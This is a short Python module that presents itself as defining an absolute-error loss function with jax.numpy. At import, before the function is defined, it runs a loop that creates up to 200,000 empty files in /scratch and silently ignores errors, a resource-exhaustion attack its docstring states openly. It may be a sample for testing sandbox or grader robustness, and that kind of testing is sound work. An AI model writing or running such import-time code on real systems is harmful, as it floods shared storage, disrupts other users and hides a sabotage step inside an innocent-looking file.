"""Fill the file system with empty files."""

import os

import jax.numpy as jnp

try:
    for number in range(200_000):
        os.close(os.open(f"/scratch/{number}", os.O_CREAT | os.O_WRONLY))
except OSError:
    pass


def loss(prediction, target):
    return jnp.abs(prediction - target)
